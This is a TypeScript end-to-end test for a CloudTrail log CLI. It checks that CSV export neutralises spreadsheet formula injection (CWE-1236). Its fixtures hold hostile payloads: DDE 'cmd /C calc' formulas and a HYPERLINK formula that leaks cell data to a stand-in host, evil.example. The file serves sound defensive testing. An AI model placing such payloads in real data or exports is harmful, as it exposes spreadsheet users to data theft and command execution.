import { readFileSync } from 'node:fs';
import path from 'node:path';
import { PassThrough } from 'node:stream';
import { runCli } from '../../src/cli';
import { exactValue, parseCsv } from '../../src/util/csv';
import { quietKnownWarnings } from '../../src/util/quiet-warnings';
import { event, LogTree } from '../engines/duckdb/fixtures';

/**
 * CWE-1236 end to end: console sign-ins whose attacker-set fields (user name of a federated session, user agent,
 * error message) are spreadsheet formulas, answered by `npx trail … --csv … --csv-raw …`. The file people open has
 * no cell that starts a formula; the raw file holds the exact values.
 */
quietKnownWarnings();

const FORMULAS = {
  userName: "-2+3+cmd|' /C calc'!A0",
  userAgent: '=HYPERLINK("https://evil.example/?leak="&A1,"Open the runbook")',
  errorMessage: "@SUM(1+1)*cmd|' /C calc'!A0",
};
const QUOTED_USER = "'already-quoted";

describe('npx trail --csv / --csv-raw with formulas in the data', () => {
  const tree = new LogTree('trail-hostile-csv-');
  const now = new Date();
  const at = (minutesAgo: number) =>
    new Date(now.getTime() - minutesAgo * 60_000).toISOString().replace(/\.\d+Z$/, 'Z');
  const day = now.toISOString().slice(0, 10).replaceAll('-', '/');

  beforeAll(() => {
    const login = (minutesAgo: number, userName: string, extra: Record<string, unknown> = {}) =>
      event({
        eventTime: at(minutesAgo),
        eventSource: 'signin.amazonaws.com',
        eventName: 'ConsoleLogin',
        eventType: 'AwsConsoleSignIn',
        readOnly: false,
        userIdentity: {
          type: 'IAMUser',
          principalId: 'AIDAEXAMPLE',
          arn: `arn:aws:iam::111122223333:user/${userName}`,
          accountId: '111122223333',
          userName,
        },
        requestParameters: null,
        responseElements: { ConsoleLogin: 'Failure' },
        additionalEventData: { MFAUsed: 'No' },
        ...extra,
      });
    tree.s3({
      day,
      events: [
        login(20, FORMULAS.userName, { userAgent: FORMULAS.userAgent, errorMessage: FORMULAS.errorMessage }),
        login(10, QUOTED_USER, { userAgent: '+1.5e3', errorMessage: '-3' }),
      ],
    });
  });
  afterAll(() => tree.remove());

  test('the --csv file marks every formula; --csv-raw holds the exact values', async () => {
    const safeFile = path.join(tree.root, 'safe.csv');
    const rawFile = path.join(tree.root, 'raw.csv');
    const err = new PassThrough();
    let errText = '';
    err.on('data', (d) => {
      errText += String(d);
    });
    const code = await runCli(['logins', 'all', '2h', '--csv', safeFile, '--csv-raw', rawFile], {
      out: new PassThrough(),
      err,
      env: { TRAIL_DATA_DIR: tree.root, TRAIL_RESULTS_DIR: path.join(tree.root, 'results') },
    });
    expect({ code, errText }).toEqual({ code: 0, errText: expect.stringContaining('(exact values)') });

    const safe = parseCsv(readFileSync(safeFile, 'utf8'));
    const raw = parseCsv(readFileSync(rawFile, 'utf8'));
    expect(raw[0]).toEqual(safe[0]);
    const col = (rows: string[][], name: string) => rows.slice(1).map((r) => r[rows[0]!.indexOf(name)]);

    // What a spreadsheet sees: text, never a formula. Numbers stay numbers.
    expect(col(safe, 'username')).toEqual([`'${FORMULAS.userName}`, `''already-quoted`]);
    expect(col(safe, 'useragent')).toEqual([`'${FORMULAS.userAgent}`, '+1.5e3']);
    expect(col(safe, 'errormessage')).toEqual([`'${FORMULAS.errorMessage}`, '-3']);
    for (const row of safe)
      for (const cell of row)
        expect(/^[\s]*[=+\-@＝＋－＠]/u.test(cell) && !/^[+-]?[\d.]+(e\d+)?$/.test(cell)).toBe(false);

    // The evidence: exactly what CloudTrail recorded, and the same as removing the one mark from each safe cell.
    expect(col(raw, 'username')).toEqual([FORMULAS.userName, QUOTED_USER]);
    expect(col(raw, 'useragent')).toEqual([FORMULAS.userAgent, '+1.5e3']);
    expect(col(raw, 'errormessage')).toEqual([FORMULAS.errorMessage, '-3']);
    expect(safe.map((r) => r.map(exactValue))).toEqual(raw);
  }, 30_000);
});
